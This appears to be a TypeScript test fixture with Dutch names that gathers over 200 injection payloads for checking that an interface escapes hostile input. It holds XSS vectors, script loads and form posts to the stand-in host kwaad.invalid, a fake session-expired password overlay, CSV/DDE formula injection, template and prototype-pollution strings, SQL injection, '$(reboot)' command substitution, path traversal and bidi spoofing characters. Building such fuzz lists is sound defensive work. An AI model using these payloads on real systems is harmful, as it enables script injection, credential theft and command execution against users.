/** What somebody may write to make the desk do something: HTML, scripts, addresses, CSV, templates, hidden characters. */

const doel = 'globalThis.uitgevoerd=1';
const sluit = ['', '"', "'", '">', "'>", '</div>', '</textarea>', '</title>', '-->', ']]>', '</script>', '\\"'];

const html = [
  `<script>${doel}</script>`, `<script src=https://kwaad.invalid/x.js></script>`, `<script type=module>import('https://kwaad.invalid/x.js')</script>`,
  `<img src=x onerror=${doel}>`, `<img src=https://kwaad.invalid/pixel.gif>`, `<img srcset="https://kwaad.invalid/a 1x">`, `<image href=x onerror=${doel}>`,
  `<svg onload=${doel}>`, `<svg><script>${doel}</script></svg>`, `<svg><animate onbegin=${doel} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${doel}>`, `<iframe src="javascript:${doel}"></iframe>`, `<iframe srcdoc="<script>parent.${doel}</script>"></iframe>`,
  `<object data="javascript:${doel}"></object>`, `<embed src="https://kwaad.invalid/x.swf">`, `<video><source onerror=${doel}></video>`, `<audio src=x onerror=${doel}>`,
  `<body onload=${doel}>`, `<details open ontoggle=${doel}>x</details>`, `<marquee onstart=${doel}>x</marquee>`, `<input autofocus onfocus=${doel}>`,
  `<select autofocus onfocus=${doel}>`, `<textarea autofocus onfocus=${doel}>`, `<button popovertarget=x onclick=${doel}>x</button><div popover id=x onbeforetoggle=${doel}>`,
  `<a href="javascript:${doel}">klik</a>`, `<a href="data:text/html,<script>${doel}</script>" autofocus>klik</a>`, `<form action="https://kwaad.invalid"><button>Verstuur</button></form>`,
  `<link rel=stylesheet href=https://kwaad.invalid/x.css>`, `<link rel=prefetch href=https://kwaad.invalid/>`, `<link rel=dns-prefetch href=//kwaad.invalid>`,
  `<style>@import 'https://kwaad.invalid/x.css';</style>`, `<style>*{background:url(https://kwaad.invalid/x)}</style>`, `<div style="background:url(https://kwaad.invalid/x)">x</div>`,
  `<div style="position:fixed;inset:0;background:#fff">Uw sessie is verlopen. Typ uw wachtwoord:</div>`, `<meta http-equiv=refresh content="0;url=https://kwaad.invalid/">`,
  `<base href=https://kwaad.invalid/>`, `<template><script>${doel}</script></template>`, `<template shadowrootmode=open><script>${doel}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${doel}>">`, `<xmp><img src=x onerror=${doel}></xmp>`, `<!--><img src=x onerror=${doel}>-->`, `<![CDATA[<img src=x onerror=${doel}>]]>`,
  `<x onpointerenter=${doel} style="display:block;font-size:999px">x</x>`, `<h1 id=kop>Berichten</h1>`, `<button id=rij-0>Ik pak dit op</button>`, `<img name=getElementById><img id=melding>`,
];

const adressen = [
  `javascript:${doel}`, `JaVaScRiPt:${doel}//`, `java\tscript:${doel}`, 'https://kwaad.invalid/?u=inwoner', 'http://127.0.0.1:1/', '//kwaad.invalid', 'mailto:x@kwaad.invalid?bcc=y',
  'tel:+31900123456', 'file:///etc/passwd', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', 'blob:https://kwaad.invalid/1',
  '[klik](javascript:alert(1))', '![x](https://kwaad.invalid/x.png)', '&#106;avascript:alert(1)', '&lt;script&gt;alert(1)&lt;/script&gt;', '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '&#x3C;img src=x onerror=alert(1)&#x3E;',
];

const tabellen = [
  '=1+1', '=HYPERLINK("https://kwaad.invalid","klik")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '=IMPORTXML("https://kwaad.invalid","//a")',
  '=WEBSERVICE("https://kwaad.invalid/")', '"=1+1"', ';=1+1', ',=1+1', '=DDE("cmd";"/C calc";"x")', '%0A=1+1', '＝1+1',
];

const sjablonen = [
  '{{constructor.constructor("globalThis.uitgevoerd=1")()}}', '{{naam}}', '{{wanneer}} {{dag}}', '${globalThis.uitgevoerd=1}', '<%= 7*7 %>', '#{7*7}', '{%raw%}', '[[7*7]]', '__proto__', 'constructor',
  '{"__proto__":{"uitgevoerd":1}}', '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}', "'; DROP TABLE aanmelding; --", '$(reboot)', '`reboot`', '../../../etc/passwd', '$&$1$`$\'', 'null', 'undefined', '[object Object]',
];

const tekens = [
  '\u202e12 43 65 87\u202c', '\u2066\u202eexe.txt\u2069', 'veilig\u202egpj.exe', '\u200f\u200e', '\u061c123', '\u2067verborgen\u2069 open', 'a\u0000b', '\u001b[31mrood\u001b[0m', '\u0008\u0008\u0008', '\u007f', '\u0085nieuw',
  '\u2028regel\u2029', 'I\u200bB\u200bA\u200bN', '\ufeffbegin', 'soft\u00adhyphen', '\u{e0001}\u{e0068}\u{e0069}', '\ud800', '\udc00x', 'e' + '\u0301'.repeat(200), '﷽'.repeat(20), 'ا'.repeat(500), 'x'.repeat(5000),
  '\n'.repeat(300), '\t'.repeat(200) + 'ver weg', ' '.repeat(1000), '👨‍👩‍👧‍👦'.repeat(50), 'مرحبا <script>', 'שלום\u202e<b>', '\u115f\u3164 leeg', '\r\n\r\nSet-Cookie: x=1', '\u180e\u2060\u2063',
];

/** All of them, each once: 200 and more. */
export const payloads: string[] = [...new Set([
  ...html, ...adressen, ...tabellen, ...sjablonen, ...tekens,
  // The same ways in, after what could close the place they stand in, in capitals, and with characters that filters trip over.
  ...sluit.flatMap((begin, i) => [html[i]!, html[i + 7]!, html[i + 20]!].map((vorm) => begin + vorm)),
  ...html.slice(0, 20).map((vorm) => vorm.toUpperCase()),
  ...html.slice(0, 12).map((vorm) => vorm.replace('<', '<\u0000')),
  ...html.slice(0, 10).map((vorm) => `\u202e${vorm}\u202c`),
])];

/** What is no text at all, where a text should be. */
export const geenTekst: unknown[] = [
  null, 42, true, ['<img src=x onerror=alert(1)>'], { toString: 'x' }, { type: 'script', props: { children: doel }, key: null, ref: null, constructor: null, __v: 1 },
  { type: 'div', props: { dangerouslySetInnerHTML: { __html: `<img src=x onerror=${doel}>` } } }, [[['x']]],
];
